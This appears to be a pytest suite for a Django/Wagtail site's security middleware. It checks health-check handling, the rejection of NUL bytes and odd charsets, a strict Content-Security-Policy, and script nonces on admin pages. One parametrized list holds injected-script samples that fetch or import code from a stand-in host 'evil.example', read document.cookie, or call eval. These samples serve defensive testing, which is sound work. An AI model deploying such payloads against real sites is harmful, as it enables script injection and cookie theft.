"""Health check, hostile addresses and the Content-Security-Policy."""

import re
from collections.abc import Callable
from io import BytesIO
from unittest.mock import Mock
from wsgiref.util import setup_testing_defaults

import pytest
from csp.middleware import CSPMiddleware
from django.http import HttpResponse
from django.test import Client, RequestFactory, override_settings

from accounts.models import User
from blog.models import BlogPostPage
from cms.middleware import ADMIN_FUNCTIONS, AdminContentSecurityPolicyMiddleware
from cms.wsgi import application


@pytest.mark.django_db
@override_settings(SECURE_SSL_REDIRECT=True)
def test_health_check_answers_any_host_over_plain_http(client: Client) -> None:
    response = client.get("/healthz", headers={"host": "10.0.0.7"})

    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("address", ["/search/?q=%00", "/blog/%00/", "/?page=%00"])
def test_null_character_in_the_address_is_a_bad_request(client: Client, address: str) -> None:
    response = client.get(address)

    assert response.status_code == 400
    assert "NUL" in response.content.decode()


def test_site_has_a_strict_policy_and_no_inline_code(client: Client, post: BlogPostPage) -> None:
    response = client.get(post.url)

    policy = response["Content-Security-Policy"]
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    text = response.content.decode()
    inline = re.findall(r"<script(?![^>]*\b(?:src|type=\"application/ld\+json\"))[^>]*>", text)
    assert inline == []
    assert "style=" not in text
    assert "<style" not in text


@pytest.mark.parametrize(
    "address",
    [
        "/admin/pages/{post}/edit/",
        "/admin/pages/add/home/formpage/{home}/",
        "/admin/pages/add/home/standardpage/{home}/",
        "/admin/pages/{post}/history/",
        "/admin/workflows/add/",
        "/admin/redirects/add/",
        "/admin/searchpicks/add/",
        "/admin/snippets/blog/person/add/",
        "/admin/snippets/blog/source/add/",
        "/admin/settings/home/organisationsettings/",
        "/admin/settings/home/navigationsettings/",
        "/admin/content-api-tokens/new/",
        "/admin/webhooks/new/",
        "/admin/users/new/",
        "/admin/reports/site-history/",
        "/admin/account/",
    ],
)
def test_every_script_of_an_admin_form_has_a_nonce(
    client: Client, post: BlogPostPage, make_user: Callable[..., User], address: str
) -> None:
    client.force_login(make_user(is_superuser=True))

    path = address.format(post=post.pk, home=post.get_parent().get_parent().pk)
    response = client.get(path, follow=True)

    assert response.status_code == 200
    nonce = re.search(r"'nonce-([^']+)'", response["Content-Security-Policy"])
    assert nonce
    assert "script-src 'self' 'nonce-" in response["Content-Security-Policy"]
    scripts = re.findall(
        r"<script(?![^>]*\b(?:src|type)=)([^>]*)>(.*?)</script>", response.text, re.DOTALL
    )
    without = [code.strip()[:80] for given, code in scripts if f'nonce="{nonce[1]}"' not in given]
    assert without == []


@pytest.mark.parametrize(
    "script",
    [
        b'<script>initDateChooser("x", {}); fetch("//evil.example")</script>',
        b'<script>initDateChooser(fetch("//evil.example"));</script>',
        b"<script>alert(document.cookie);</script>",
        b'<script>initDateChooser("a", {"b": eval("1")});</script>',
        b'<script>import("https://evil.example/x.js");</script>',
        b'<script>(function() { var panel = import("https://evil.example/x.js"); })();</script>',
        b'<script>fetch("https://evil.example/");</script>',
        b'<script>open("https://evil.example/");</script>',
        b'<script>new Worker("https://evil.example/x.js");</script>',
        b'<script>eval("alert(1)");</script>',
        b'<script>new Function("alert(1)");</script>',
        b'<script>setTimeout("alert(1)");</script>',
        b'<script>new initDateChooserOf("x");</script>',
        b'<script>new import("https://evil.example/x.js");</script>',
    ],
)
def test_script_that_is_no_known_call_of_literals_gets_no_nonce(
    rf: RequestFactory, script: bytes
) -> None:
    assert b"nonce" not in _as_the_admin_sends(rf, script)


@pytest.mark.parametrize("name", ADMIN_FUNCTIONS)
def test_call_that_wagtail_writes_gets_its_nonce(rf: RequestFactory, name: str) -> None:
    script = f'<script>\n  (function() {{ var panel = {name}("id", {{"a": [1]}}); }})();</script>'

    assert b'<script nonce="' in _as_the_admin_sends(rf, script.encode())


def _as_the_admin_sends(rf: RequestFactory, page: bytes) -> bytes:
    """Return what is left of a page of the admin's, behind both middlewares of the policy."""
    admin = AdminContentSecurityPolicyMiddleware(lambda request: HttpResponse(page))
    return CSPMiddleware(admin)(rf.get("/admin/")).content


@pytest.mark.parametrize("charset", ["utf-7", "unicode_escape", "hex", "idna", "undefined"])
@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "multipart/form-data"])
def test_text_in_another_encoding_is_refused(post: BlogPostPage, charset: str, kind: str) -> None:
    """Through the server's own door: Django's test client decodes by itself."""
    for method, path in (("GET", "/search/"), ("POST", f"/comments/{post.pk}/")):
        body = b"comment=%2B2AA-"
        environ = {
            "REQUEST_METHOD": method,
            "PATH_INFO": path,
            "QUERY_STRING": "q=%2B2AA-",
            "CONTENT_TYPE": f"{kind}; boundary=x; charset={charset}",
            "CONTENT_LENGTH": str(len(body)),
            "HTTP_HOST": "testserver",
            "wsgi.input": BytesIO(body),
        }
        setup_testing_defaults(environ)
        start_response = Mock()
        parts = application(environ, start_response)

        assert start_response.call_args[0][0] == "415 Unsupported Media Type"
        assert b"UTF-8" in b"".join(parts)
